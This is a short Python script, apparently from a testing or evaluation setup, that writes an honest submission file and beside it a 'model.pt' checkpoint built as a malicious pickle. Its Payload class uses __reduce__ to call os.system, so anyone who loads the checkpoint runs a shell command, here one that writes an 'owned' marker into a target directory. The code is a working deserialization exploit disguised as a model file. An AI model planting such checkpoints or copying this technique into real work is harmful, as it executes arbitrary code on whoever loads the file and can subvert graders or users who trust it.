"""Write an honest submission and a checkpoint that runs a command when it is loaded."""

import os
import pickle


class Payload:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def place(path, honest, targets):
    path.write_bytes(honest)
    (path.parent / "model.pt").write_bytes(pickle.dumps(Payload(f"echo owned > {targets}/owned")))
